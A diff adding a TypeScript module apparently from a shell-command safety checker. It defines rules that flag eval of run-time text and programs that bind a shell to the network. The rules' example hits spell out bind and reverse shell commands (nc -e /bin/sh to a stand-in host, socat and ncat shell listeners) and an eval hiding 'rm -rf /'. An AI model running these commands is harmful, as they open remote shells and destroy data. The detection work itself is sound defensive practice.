@@ -1,0 +1,113 @@
+import {
+  isInterpreter,
+  programName,
+  type StartedText,
+  type StartedWords,
+  type Starts,
+  textStarted,
+  UNKNOWN,
+} from '../../shell/index.ts';
+import { wordsOf } from '../args.ts';
+import { judgeAssignment } from '../assignments.ts';
+import { guards } from '../guards.ts';
+import { report, type ShellScope } from '../scope.ts';
+import { type Arg, PERHAPS, type RuleInfo, type SimpleCommand, type Span } from '../types.ts';
+import { judgeInner, judgeShellText, type Unwrapped } from './inner.ts';
+import { pipeToInterpreter } from './shells.ts';
+
+export const evaluatesUnknown: RuleInfo = {
+  id: 'evaluates-unknown',
+  level: 'dangerous',
+  sentence: 'Runs text that is only known when it runs.',
+  hits: ['eval "$x"', 'eval "$(ssh-agent)"', 'eval "${x:-rm -rf /}"'],
+  misses: ["eval 'ls'", 'eval ls -la'],
+};
+
+export const remoteShell: RuleInfo = {
+  id: 'remote-shell',
+  level: 'dangerous',
+  sentence: 'Connects a shell or a program to the network, so that somebody else can use it.',
+  needs: ['network'],
+  hits: [
+    'nc -e /bin/sh e.example 4444',
+    'socat TCP-LISTEN:4444 EXEC:/bin/sh',
+    'ncat --listen --sh-exec=sh 4444',
+  ],
+  misses: ['nc -z localhost 80', 'socat -V', 'mkfifo f'],
+};
+
+const connects = new Set(['nc', 'ncat', 'netcat', 'socat']);
+
+/** Judges all that a command starts. */
+export function judgeStarted(command: SimpleCommand, found: Starts, scope: ShellScope): Unwrapped {
+  const { args, name } = command;
+  if (found.started.length > 0 || found.where === 'elsewhere')
+    for (const need of found.needs) scope.findings.need(need);
+  for (const at of found.assigns) {
+    const arg = args[at - 1] as Arg;
+    const equals = arg.value.indexOf('=');
+    report(scope, guards.assignment, arg.span);
+    judgeAssignment(arg.value.slice(0, equals), { ...arg, value: arg.value.slice(equals + 1) }, scope);
+  }
+  for (const started of found.started) {
+    if (started.as === 'words') judgeWords(command, started, scope);
+    else if (found.inShell) evaluate(command, scope);
+    else {
+      const text = textOf(command, started);
+      judgeShellText(command, text, scope);
+      if (connects.has(name)) report(scope, remoteShell, text.span);
+    }
+  }
+  if (found.started.length === 0 && found.wants && command.open)
+    judgeInner(
+      command,
+      [{ value: UNKNOWN, literal: false, glob: false, span: command.span, text: '' }],
+      scope,
+    );
+  else if (found.reads && command.stdin.kind === 'text')
+    judgeShellText(command, asArg(command.stdin.text, command.stdin.span), scope);
+  return found.clear ? 'clear' : undefined;
+}
+
+const asArg = (value: string, span: Span): Arg => ({ value, literal: true, glob: false, span, text: value });
+
+function textOf(command: SimpleCommand, started: StartedText): Arg {
+  const first = command.args[started.from - 1] as Arg;
+  const last = command.args[started.to - 2] as Arg;
+  return asArg(textStarted(wordsOf(command), started), [first.span[0], last.span[1]]);
+}
+
+/** What `eval` runs, it runs in this shell. */
+function evaluate(command: SimpleCommand, scope: ShellScope): void {
+  const text = command.args.map((arg) => arg.value).join(' ');
+  if (text.includes(UNKNOWN) || command.open) report(scope, evaluatesUnknown, command.span);
+  scope.nested(text, scope, { span: command.span, via: [...command.via, command.name], same: true });
+}
+
+function judgeWords(command: SimpleCommand, started: StartedWords, scope: ShellScope): void {
+  const { program, handed, hole } = started;
+  const words = command.args.slice(started.from - 1, started.to - 1);
+  const apart = program && command.args[program.at - 1];
+  if (apart) words.unshift({ ...apart, value: apart.value.slice(program.skip) });
+  const args = hole === undefined ? words : words.map((arg) => fill(arg, hole, started.filled));
+  const inputs = handed ? command.args.slice(handed.from - 1, handed.to - 1) : [];
+  const name = programName(args[0]?.value ?? '');
+  // What it is handed is a program, or one that an interpreter reads.
+  const whole = args.some(({ value }) => value === UNKNOWN) || (started.evaluated && args.length <= 2);
+  if (hole !== undefined && whole && isInterpreter(name)) {
+    report(scope, pipeToInterpreter, command.span);
+    for (const input of inputs) judgeShellText(command, input, scope);
+  }
+  const paths = inputs.slice(0, 20).filter(({ value }) => /^(?:\/|~|\.\.)/.test(value));
+  judgeInner(command, [...args, ...paths], scope, {
+    ...(started.open ? { open: true } : {}),
+    ...(started.perhaps ? { via: [...command.via, PERHAPS] } : {}),
+    ...(started.unfed ? { stdin: { kind: 'none' }, open: started.open ?? false } : {}),
+  });
+}
+
+function fill(arg: Arg, hole: string, filled: string | undefined): Arg {
+  if (!arg.value.includes(hole)) return arg;
+  if (arg.value === hole && filled !== undefined) return { ...arg, value: filled, literal: true };
+  return { ...arg, value: arg.value.replaceAll(hole, UNKNOWN), literal: false };
+}
